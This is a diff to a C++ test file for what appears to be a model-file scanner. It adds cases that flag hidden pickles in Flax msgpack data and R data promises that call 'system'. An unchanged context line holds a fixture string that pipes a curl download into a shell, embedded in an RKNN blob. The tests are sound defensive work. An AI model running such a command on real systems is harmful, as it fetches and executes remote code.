@@ -55,10 +55,25 @@ TEST(Flax, arrays_and_texts_are_clean_and_the_rest_is_told) {
   EXPECT_EQ(small_scan(fine + "x").verdict, ScanVerdict::review);
   for (std::size_t cut = 4; cut < fine.size(); ++cut)
     EXPECT_NE(small_scan(fine.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
-  EXPECT_EQ(small_scan("\x81\xa1w\xdf\xff\xff\xff\xff\xa1"s).verdict, ScanVerdict::malformed);
+  EXPECT_EQ(small_scan("\x81\xa1w\xdf\xff\xff\xff\xff\xa1"s).verdict, ScanVerdict::inconclusive);
   std::string deep = "\x81\xa1w"s;
   for (int i = 0; i < 1000; ++i) deep += '\x91';
   EXPECT_NE(small_scan(deep + "\x01").verdict, ScanVerdict::clean);
+}
+
+TEST(Flax, pickles_in_bytes_are_found_and_numbers_are_no_messages) {
+  const auto bytes = [](const std::string& data) { return "\xc4"s + static_cast<char>(data.size()) + data; };
+  for (const auto& text :
+       {"\x81\xa1w\x82\xc4\x02nd\xc3\xc4\x04"s + "data" + bytes(bad_pickle),
+        "\x82\xc4\x02nd\xc3\xc4\x04"s + "data" + bytes(bad_pickle), "\x92\x01"s + bytes(bad_pickle)}) {
+    EXPECT_EQ(small_scan(text).format, "flax-msgpack");
+    EXPECT_EQ(small_scan(text).verdict, ScanVerdict::malicious);
+  }
+  EXPECT_EQ(small_scan("\x81\xa1w"s + bytes("N.\0\0\0\0\0\0"s)).verdict, ScanVerdict::clean);
+  // Weights may begin like a message, and do not end where it does.
+  std::string weights = "\x82\xa1\x2f\x3d"s;
+  for (int i = 1; i < 4096; ++i) weights += static_cast<char>(i * 7) + "\x01\xf0\x3d"s;
+  EXPECT_NE(small_scan(weights, "model.onnx_data").format, "flax-msgpack");
 }
 
 TEST(Xgboost, ubjson_is_walked_to_its_end) {
@@ -109,6 +124,44 @@ TEST(RData, promises_are_found_and_values_are_clean) {
   EXPECT_EQ(small_scan(r_file(four(21, true))).verdict, ScanVerdict::inconclusive);
 }
 
+std::string decimals(std::initializer_list<int> numbers) {
+  std::string out;
+  for (const int n : numbers) out += std::to_string(n) + "\n";
+  return out;
+}
+
+TEST(RData, promises_are_found_in_every_form_of_the_format) {
+  const std::string head = "A\n" + decimals({2, 262144, 131840});
+  const std::string call = decimals({6, 1, 9, 6}) + "system\n" + decimals({254});
+  const std::string promise = head + decimals({5, 252}) + call;
+  const std::string fine = head + decimals({19, 2, 13, 1}) + "NA\n" + decimals({14, 2}) + "1.5\nInf\n";
+  const std::string text = head + decimals({16, 1, 9, 5}) + "a\\040b\\n\\\\\n";
+  for (const std::string_view magic : {"", "RDA2\n", "RDA3\n", "RDX2\n", "RDB3\n", "\n"}) {
+    EXPECT_EQ(small_scan(std::string(magic) + promise, "m.rda").format, "r-data") << magic;
+    EXPECT_EQ(small_scan(std::string(magic) + promise, "m.rda").verdict, ScanVerdict::malicious) << magic;
+    EXPECT_EQ(small_scan(std::string(magic) + fine, "m.rda").verdict, ScanVerdict::clean) << magic;
+  }
+  EXPECT_EQ(small_scan(text, "m.rda").verdict, ScanVerdict::clean);
+  EXPECT_EQ(small_scan(fine.substr(0, fine.size() - 6), "m.rda").verdict, ScanVerdict::malformed);
+  EXPECT_EQ(small_scan(head + decimals({19, 2147483647}), "m.rda").verdict, ScanVerdict::malformed);
+  EXPECT_EQ(small_scan("A\nlist of words\n", "m.txt").format, "text");
+  const std::string native = "B\n" + four(2) + four(0x40102) + four(0x20300);
+  EXPECT_EQ(small_scan(native + four(13) + four(1) + four(7)).verdict, ScanVerdict::clean);
+  EXPECT_EQ(small_scan("RDB2\n" + native + four(5) + four(252) + four(254)).verdict, ScanVerdict::malicious);
+  EXPECT_EQ(small_scan("X " + r_file(four(5, true) + four(252, true) + four(254, true)).substr(2)).verdict,
+            ScanVerdict::malicious);
+}
+
+TEST(RData, packages_that_would_be_loaded_are_told) {
+  const auto space = [](const std::string& name) {
+    return r_file(four(249, true) + four(0) + four(1, true) + four(9, true) +
+                  four(static_cast<std::uint32_t>(name.size()), true) + name);
+  };
+  EXPECT_EQ(small_scan(space("stats")).verdict, ScanVerdict::clean);
+  EXPECT_EQ(small_scan(space("other")).verdict, ScanVerdict::review);
+  EXPECT_TRUE(small_has(small_scan(space("other")), "r.package"));
+}
+
 TEST(Opaque, what_nobody_can_look_into_is_said_to_be_so) {
   EXPECT_EQ(small_scan("ptrt"s + std::string(60, '\0'), "m.engine").verdict, ScanVerdict::review);
   EXPECT_EQ(small_scan("tjgg"s + std::string(60, '\0'), "m.bin").verdict, ScanVerdict::review);
@@ -117,6 +170,7 @@ TEST(Opaque, what_nobody_can_look_into_is_said_to_be_so) {
   EXPECT_EQ(small_scan(cat.substr(0, 30), "m.cbm").verdict, ScanVerdict::malformed);
   EXPECT_EQ(small_scan("RKNN"s + std::string(20, '\0') + "import os; os.system('curl http://x | sh')").verdict,
             ScanVerdict::malicious);
+  EXPECT_EQ(small_scan("RKNN is a format of Rockchip's").format, "text");
 }
 
 }  // namespace
